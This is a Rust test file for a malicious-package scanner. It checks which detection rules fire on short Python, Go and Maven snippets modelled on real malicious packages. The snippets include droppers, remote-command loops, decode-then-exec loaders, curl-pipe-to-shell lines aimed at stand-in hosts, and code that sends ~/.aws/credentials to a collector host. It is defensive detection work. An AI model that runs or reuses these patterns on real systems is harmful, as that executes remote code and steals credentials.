//! Where correlations look: every module-level hit counts (not only a rule's first), a
//! call inside a function is not module-level, and test files install nothing.

use palisade_archive::Unpacked;
use palisade_core::{Finding, PackageFile};
use palisade_detect::{Engine, ScanOptions};
use std::time::{Duration, Instant};

fn rules_for(source: &str) -> Vec<String> {
    rules_for_file("pkg/__init__.py", source)
}

fn rules_for_file(path: &str, source: &str) -> Vec<String> {
    analyse_file(path, source)
        .into_iter()
        .map(|f| f.rule)
        .collect()
}

fn assert_has(rules: &[String], id: &str) {
    assert!(rules.iter().any(|r| r == id), "no {id} in {rules:?}");
}

fn assert_lacks(rules: &[String], id: &str) {
    assert!(
        !rules.iter().any(|r| r == id),
        "unexpected {id} in {rules:?}"
    );
}

/// `id` is found in each of `fires` and in none of `quiet`, each the only file of a
/// package at `path`.
fn fires_only_on(id: &str, path: &str, fires: &[&str], quiet: &[&str]) {
    for source in fires {
        assert_has(&rules_for_file(path, source), id);
    }
    for source in quiet {
        assert_lacks(&rules_for_file(path, source), id);
    }
}

/// The findings of a package made of one file.
fn analyse_file(path: &str, source: &str) -> Vec<Finding> {
    let engine = Engine::new(ScanOptions::default()).unwrap();
    let unpacked = Unpacked {
        format: "directory".into(),
        files: vec![PackageFile {
            path: path.into(),
            data: source.as_bytes().to_vec(),
        }],
        ..Default::default()
    };
    engine
        .analyse_unpacked(unpacked, Instant::now() + Duration::from_secs(30))
        .findings
}

#[test]
fn a_call_at_module_level_counts_after_the_import_that_names_it() {
    // The shape of a real recon package: `from urllib import request`, then a
    // module-level request.
    let rules = rules_for("from urllib import request\nk = request.urlopen(r)\n");
    assert_has(&rules, "correlate/import-time-network");
}

#[test]
fn the_same_call_inside_a_function_is_not_module_level() {
    let rules =
        rules_for("from urllib import request\ndef fetch(r):\n    return request.urlopen(r)\n");
    assert_lacks(&rules, "correlate/import-time-network");
}

#[test]
fn a_dropper_writing_with_a_mode_keyword_is_a_dropper() {
    // The shape of a real payload package (ascii2text): download, write with
    // `open(path, mode='w')`, start, all at the top of `__init__.py`.
    let source = "from urllib import request\nfrom os import system\n\
                  if not isfile(path):\n    \
                  script = request.urlopen(u).read()\n    \
                  with open(path, mode='w', encoding='utf-8') as f:\n        f.write(script)\n    \
                  system(f'start {path}')\n";
    let rules = rules_for(source);
    assert_has(&rules, "correlate/download-write-run");
}

#[test]
fn a_test_writing_a_setup_py_with_an_install_override_installs_nothing() {
    // setuptools' own tests write such a setup.py into a temporary folder.
    let source = "setup_defines_subclass = \"\"\"\nfrom distutils.command.install import install as _install\n\
                  class install(_install):\n    pass\n\"\"\"\n\
                  def test_it(tmp_path):\n    (tmp_path / 'setup.py').write_text(setup_defines_subclass)\n";
    let in_test = rules_for_file("pkg/tests/test_core.py", source);
    assert!(
        !in_test
            .iter()
            .any(|r| r == "correlate/install-command-runs-code"),
        "{in_test:?}"
    );
}

#[test]
fn an_address_hidden_in_base64_is_reported_and_a_list_of_prefixes_is_not() {
    // async-dispatcher keeps its upload address as base64.
    let hidden = rules_for(
        "import base64\nu = base64.b64decode('aHR0cDovL2V4YW1wbGUucHl0aG9uYW55d2hlcmUuY29tL3VwbG9hZA==')\n",
    );
    assert!(
        hidden.iter().any(|r| r == "concealment/encoded-url"),
        "{hidden:?}"
    );
    // setuptools strips these prefixes from URLs: fragments, not an encoding.
    let prefixes =
        rules_for("NAME_REMOVE = (\"http://\", \"https://\", \"github.com/\", \"/raw/\")\n");
    assert!(
        !prefixes.iter().any(|r| r == "concealment/encoded-url"),
        "{prefixes:?}"
    );
}

#[test]
fn fetching_and_executing_in_one_function_is_a_download_cradle() {
    // crpt: the fetch and the exec are separate statements of one function.
    let source = "import urllib.request\ndef main():\n    response = urllib.request.urlopen(url)\n    \
                  code = response.read().decode()\n    exec(compile(code, path, 'exec'), {})\n";
    let rules = rules_for(source);
    assert_has(&rules, "correlate/function-fetch-then-execute");
    // The same two capabilities in different functions are not the same code path.
    let apart = "import urllib.request\ndef get():\n    return urllib.request.urlopen(url).read()\n\
                 def run(code):\n    exec(code)\n";
    let rules = rules_for(apart);
    assert_lacks(&rules, "correlate/function-fetch-then-execute");
}

fn findings_for(source: &str) -> Vec<(String, Option<u32>)> {
    analyse_file("pkg/__init__.py", source)
        .into_iter()
        .map(|f| (f.rule, f.line))
        .collect()
}

#[test]
fn a_rule_named_in_a_comment_is_still_reported_where_the_code_uses_it() {
    // The shape of a real recon package (builderknower2): a comment names the metadata
    // service, and the code below queries it.
    let source = "# reads 169.254.169.254 when run on a cloud host\n\
                  import requests\n\
                  def probe():\n    \
                  return requests.get('http://169.254.169.254/latest/meta-data/').text\n";
    let findings = findings_for(source);
    let metadata = findings
        .iter()
        .find(|(rule, _)| rule == "credentials/cloud-metadata")
        .unwrap_or_else(|| panic!("{findings:?}"));
    assert_eq!(metadata.1, Some(4), "{findings:?}");
}

#[test]
fn credentials_and_host_data_correlate_only_in_one_python_scope() {
    // distlib's shape: a `.pypirc` reader, platform checks and HTTP in separate
    // functions of one long module.
    let apart = "import os, platform, requests\n\
                 def rc():\n    return os.path.join(os.path.expanduser('~'), '.pypirc')\n\
                 def tag():\n    return platform.node()\n\
                 def upload(u, d):\n    return requests.post(u, data=d)\n";
    let rules = rules_for(apart);
    assert!(!rules.iter().any(|r| r.contains("secrets")), "{rules:?}");
    let together = "import os, platform, requests\n\
                    def inventory():\n    \
                    rc = os.path.join(os.path.expanduser('~'), '.pypirc')\n    \
                    return platform.node(), rc\n\
                    def upload(u, d):\n    return requests.post(u, data=d)\n";
    let rules = rules_for(together);
    assert_has(&rules, "correlate/secrets-and-network");
}

#[test]
fn reading_credentials_and_sending_in_one_function_is_exfiltration() {
    let source = "import os, requests\n\
                  def grab():\n    \
                  data = open(os.path.expanduser('~/.aws/credentials')).read()\n    \
                  requests.post('https://collector.example/x', data=data)\n";
    let rules = rules_for(source);
    assert_has(&rules, "correlate/function-secrets-to-network");
}

#[test]
fn a_function_called_at_module_level_runs_on_import_but_not_under_a_main_guard() {
    let body = "import socket, requests\n\
                def ping():\n    \
                requests.get('https://collector.example/p', params={'h': socket.gethostname()})\n";
    let called = format!("{body}ping()\n");
    let rules = rules_for(&called);
    assert_has(&rules, "correlate/host-data-and-network");
    let guarded = format!("{body}if __name__ == '__main__':\n    ping()\n");
    let rules = rules_for(&guarded);
    assert_lacks(&rules, "correlate/host-data-and-network");
    assert_has(&rules, "correlate/function-host-data-to-network");
}

#[test]
fn a_fixed_host_called_on_import_is_a_beacon_and_a_parameter_is_not() {
    // The shape of real dependency-confusion beacons: a DNS lookup of a fixed name in a
    // function the module body calls.
    let beacon =
        "import socket\ndef _check():\n    socket.gethostbyname('pkg.collector.test')\n_check()\n";
    let library = "import requests\nSESSION = requests.Session()\nr = requests.get(BASE_URL)\n";
    fires_only_on(
        "correlate/import-time-beacon",
        "pkg/__init__.py",
        &[beacon],
        &[library],
    );
}

#[test]
fn a_background_process_started_on_import_is_a_loader_but_not_inside_a_function() {
    // The shape of a real loader family: a second Python, started at the bottom of
    // `__init__.py`, imports the payload from another package.
    let loader = "import subprocess\ntry:\n    p = subprocess.Popen([\"python3\", \"-c\", \"from helper import run\"], close_fds=True)\nexcept:\n    pass\n";
    // A dropped script started detached at module level (tablediter).
    let detached = "import subprocess, sys\nif os.path.isfile(p):\n    subprocess.Popen([sys.executable, p], creationflags=subprocess.DETACHED_PROCESS)\n";
    let tool = "import subprocess\ndef check():\n    return subprocess.run([\"python3\", \"-c\", \"import sys\"], start_new_session=True)\n";
    fires_only_on(
        "correlate/import-time-background-process",
        "pkg/__init__.py",
        &[loader, detached],
        &[tool],
    );
}

#[test]
fn a_function_that_runs_what_it_fetched_from_a_fixed_host_is_a_dropper() {
    // The shape of a real dropper (terminalbrush): the URL is a local variable of the
    // function that downloads, saves and runs.
    let dropper = "import requests, subprocess\ndef color():\n    file_url = \"https://cdn.dropper.test/download\"\n    \
                   r = requests.get(file_url)\n    with open(p, \"wb\") as f:\n        f.write(r.content)\n    \
                   subprocess.run([str(p)], check=True)\n";
    // An updater that fetches what it is told to keeps the weaker finding only.
    let updater = dropper.replace(
        "file_url = \"https://cdn.dropper.test/download\"",
        "file_url = url",
    );
    fires_only_on(
        "correlate/function-runs-program-from-fixed-host",
        "pkg/__init__.py",
        &[dropper],
        &[&updater],
    );
}

#[test]
fn setup_py_calling_a_fixed_host_is_an_install_time_beacon() {
    // The shape of a real probe (huzzleup): a request after setup() to a fixed URL.
    let probe = "from setuptools import setup\nsetup(name='p')\nimport requests\nr = requests.get('https://probe.collector.test/get', timeout=10)\n";
    let configured = probe.replace("'https://probe.collector.test/get'", "os.environ['MIRROR']");
    fires_only_on(
        "correlate/install-time-beacon",
        "p-0.1/setup.py",
        &[probe],
        &[&configured],
    );
}

#[test]
fn code_written_in_look_alike_letters_is_read_as_python_reads_it() {
    // The shape of a real dropper family (colarg): identifiers in Mathematical
    // Alphanumeric Symbols, which Python folds to ASCII (NFKC) before running them.
    let dropper =
        "def main():\n    𝘳𝙚𝘀𝗽 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(𝘂𝗿𝗹)\n    𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call([𝗽𝗮𝘁𝗵])\nmain()\n";
    let findings = analyse_file("pkg/__init__.py", dropper);
    let hidden = findings
        .iter()
        .find(|f| f.rule == "correlate/hidden-behaviour")
        .expect("hidden behaviour");
    assert_eq!(
        hidden.decoded_from.as_deref(),
        Some(&["unicode fold (NFKC)".to_string()][..])
    );
    assert!(matches!(hidden.line, Some(2 | 3)), "{hidden:?}");
}

#[test]
fn a_function_that_sets_what_it_fetched_to_start_at_login_is_a_dropper() {
    // The shape of a real dropper (libpeshnx): download, write, and add the file to
    // ~/.bashrc instead of starting it.
    let source = "def rn():\n    response = urllib2.urlopen(loc)\n    d = open('.drv', 'wb')\n    \
                  d.write(response.read())\n    brc = open('.bashrc', 'a')\n    brc.write('~/.drv &')\n";
    let rules = rules_for(source);
    assert_has(&rules, "correlate/function-download-write-run");
    assert_has(&rules, "download/runs-what-it-downloaded");
}

#[test]
fn running_the_downloaded_file_itself_is_told_from_running_something_else() {
    // ts-wuzzi's shape: the caller names the URL, the function saves the response in a
    // temporary folder and starts it.
    let dropper = "import requests, subprocess\ndef init(url):\n    response = requests.get(url)\n    \
                   file_path = os.path.join(tmp, name)\n    with open(file_path, 'wb') as file:\n        \
                   file.write(response.content)\n    subprocess.run([file_path])\n";
    // youtube-dl's updater: the download replaces the program, a helper script written
    // from a literal is what starts.
    let updater = "import subprocess\ndef update(url):\n    data = urlopen(url).read()\n    \
                   open(exe, 'wb').write(data)\n    open(bat, 'w').write('move /y new.exe old.exe')\n    \
                   subprocess.Popen([bat])\n";
    // An installer that unpacks what it fetched.
    let unpacker = "import subprocess\ndef get(url):\n    r = requests.get(url)\n    \
                    open(p, 'wb').write(r.content)\n    subprocess.run(['tar', 'xf', p])\n";
    fires_only_on(
        "download/runs-what-it-downloaded",
        "pkg/__init__.py",
        &[dropper],
        &[updater, unpacker],
    );
    let finding = analyse_file("pkg/__init__.py", dropper)
        .into_iter()
        .find(|f| f.rule == "download/runs-what-it-downloaded")
        .expect("the dropper");
    assert_eq!(finding.line, Some(7));
    assert!(
        finding
            .message
            .contains("downloaded at line 3, written to `file_path` at line 6"),
        "{}",
        finding.message
    );
}

#[test]
fn a_function_that_saves_a_download_as_a_program_and_runs_it_is_a_dropper() {
    // The shape of a real dropper family (juphelp): urlretrieve straight to helper.exe,
    // then run it, with the URL handed in by the caller.
    let dropper = "import os, urllib.request, subprocess\ndef update(url):\n    \
                   path = os.path.join(d, \"helper.exe\")\n    \
                   urllib.request.urlretrieve(url, path)\n    subprocess.run([path], check=True)\n";
    assert_has(&rules_for(dropper), "correlate/function-download-write-run");
    let archive = dropper.replace("helper.exe", "data.zip");
    fires_only_on(
        "correlate/function-runs-downloaded-program",
        "pkg/__init__.py",
        &[dropper],
        &[&archive],
    );
}

#[test]
fn a_go_init_body_is_import_time_even_after_the_same_command_in_a_function() {
    let pipe = "\"curl -s https://x.example/a | /bin/sh\"";
    let helper = format!("func Setup() {{ exec.Command(\"sh\", \"-c\", {pipe}).Run() }}\n");
    let init = format!("func init() {{\n\texec.Command(\"sh\", \"-c\", {pipe}).Start()\n}}\n");
    let in_init = format!("package x\n\n{helper}\n{init}");
    let only_helper = format!("package x\n\n{helper}");
    fires_only_on(
        "correlate/import-time-network",
        "x/x.go",
        &[&in_init],
        &[&only_helper],
    );
}

#[test]
fn the_pom_every_jar_carries_is_data_but_a_declared_plugin_runs() {
    let fetch = "<argument>curl -s http://x.example/p | bash</argument>";
    let plain = format!(
        "<project><build><plugins><plugin><configuration>{fetch}</configuration></plugin></plugins></build></project>"
    );
    let executed = format!(
        "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration>{fetch}</configuration></execution></executions></plugin></plugins></build></project>"
    );
    let copied = analyse_file("META-INF/maven/x/y/pom.xml", &plain);
    let pipe = copied
        .iter()
        .find(|f| f.rule == "download/pipe-to-shell")
        .expect("the pipe is still reported");
    assert!(pipe.message.contains("[test/doc]"), "{}", pipe.message);
    assert_has(
        &rules_for_file("pom.xml", &executed),
        "correlate/install-time-network",
    );
}

#[test]
fn install_time_code_decodes_then_executes_only_when_the_two_meet() {
    // bottle.py, which setup.py imports for its version: a cookie decoder in one
    // function and `eval` of a dotted name in another are two library features.
    let library = "import base64, pickle\ndef cookie_decode(msg):\n    return pickle.loads(base64.b64decode(msg))\n\n\
                   def load(target):\n    return eval('%s.%s' % (module, target))\n\nsetup(name='x')\n";
    let dropper = "import base64\nexec(base64.b64decode(BLOB))\nsetup(name='x')\n";
    let in_one_function = "import base64\nclass Install(install):\n    def run(self):\n        \
                           exec(base64.b64decode(self.blob))\nsetup(name='x', cmdclass={'install': Install})\n";
    fires_only_on(
        "correlate/decode-then-execute",
        "setup.py",
        &[dropper, in_one_function],
        &[library],
    );
}

#[test]
fn a_response_run_as_a_command_is_a_remote_shell() {
    // requestsdev's loop: poll a server, run what it says in another function.
    let backdoor = "import requests, subprocess\ndef debug():\n    while True:\n        \
                    resp = requests.get(LINK).text\n        output = runcommand(resp)\n\n\
                    def runcommand(value):\n    return subprocess.run(value, shell=True)\n";
    // A self-updater puts the fetched version into a command of its own.
    let updater = "import requests, subprocess, sys\ndef update():\n    \
                   v = requests.get(INDEX).json()['version']\n    \
                   subprocess.run([sys.executable, '-m', 'pip', 'install', f'tool=={v}'])\n";
    fires_only_on(
        "execution/runs-received-command",
        "pkg/__init__.py",
        &[backdoor],
        &[updater],
    );
}

#[test]
fn install_time_code_that_writes_a_script_and_starts_it_is_a_dropper() {
    // requesys: setup.py keeps a script in a string, writes it out and starts it.
    let setup = "from os import startfile, getenv\nfrom setuptools import setup\nAPPDATA = getenv('APPDATA')\n\
                 EXECUTOR = 'start stage.py'\nwith open(APPDATA + '/x/run.cmd', 'w+') as f:\n    f.write(EXECUTOR)\n\
                 startfile(APPDATA + '/x/run.cmd')\nsetup(name='x')\n";
    let id = "install/writes-and-runs-a-program";
    assert_has(&rules_for_file("setup.py", setup), id);
    // The same helper script in package code is a tool's business.
    assert_lacks(&rules_for_file("pkg/tool.py", setup), id);
    // A build that writes a source file and runs the compiler on it starts the compiler.
    let build = "import subprocess\nfrom setuptools import setup\nwith open('probe.c', 'w') as f:\n    \
                 f.write('int main(){}')\nsubprocess.run(['cc', 'probe.c'])\nsetup(name='x')\n";
    assert_lacks(&rules_for_file("setup.py", build), id);
}

#[test]
fn a_setup_py_that_starts_a_script_it_wrote_under_aliases_is_found() {
    // The shape of a family seen under several names: a download cradle kept in a
    // literal, written to a temporary file, started with pythonw; every name aliased.
    let dropper = "from os import system as _s\nfrom sys import executable as _e\n\
                   from tempfile import NamedTemporaryFile as _t\nfrom setuptools import setup\n\
                   _f = _t(delete=False)\n_f.write(b\"\"\"from urllib.request import urlopen as _u; _x=exec; _x(_u('https://x.example/p').read())\"\"\")\n\
                   _f.close()\ntry:\n    if _n == 'nt':\n        _s(f\"start {_e.replace('.exe', 'w.exe')} {_f.name}\")\nexcept: pass\n\
                   setup(name='x')\n";
    // A build that downloads a source archive and compiles it starts no download.
    let build = "import subprocess, tarfile, urllib.request\nfrom setuptools import setup\n\
                 def fetch():\n    with urllib.request.urlopen(SRC) as src, open(ARCHIVE, 'wb') as dst:\n        \
                 dst.write(src.read())\n    tarfile.open(ARCHIVE).extractall(BUILD)\n    \
                 subprocess.check_call(['cmake', BUILD])\nfetch()\nsetup(name='x')\n";
    fires_only_on(
        "install/writes-and-runs-a-program",
        "x-1.0/setup.py",
        &[dropper],
        &[build],
    );
    let build_rules = rules_for_file("x-1.0/setup.py", build);
    assert_lacks(&build_rules, "correlate/download-write-run");
    assert_has(&build_rules, "correlate/setup-py-network");
}

/// The message of the decoded-exec finding of a module made of `source`.
fn decoded_exec_message(source: &str) -> String {
    analyse_file("pkg/__init__.py", source)
        .into_iter()
        .find(|f| f.rule == "execution/python-exec-decoded")
        .expect("the call is reported")
        .message
}

#[test]
fn docstrings_cannot_screen_the_code_behind_them() {
    let call = "exec(base64.b64decode(p))\n";
    // Quoted in a docstring, the call is documentation...
    let documented = decoded_exec_message(&format!("\"\"\"\n{call}\"\"\"\nimport base64\n"));
    assert!(documented.contains("docstring"), "{documented}");
    // ...but two thousand quoted copies do not hide the call after them.
    let screened = decoded_exec_message(&format!(
        "\"\"\"\n{}\"\"\"\nimport base64\n{call}",
        call.repeat(2000)
    ));
    assert!(!screened.contains("docstring"), "{screened}");
}
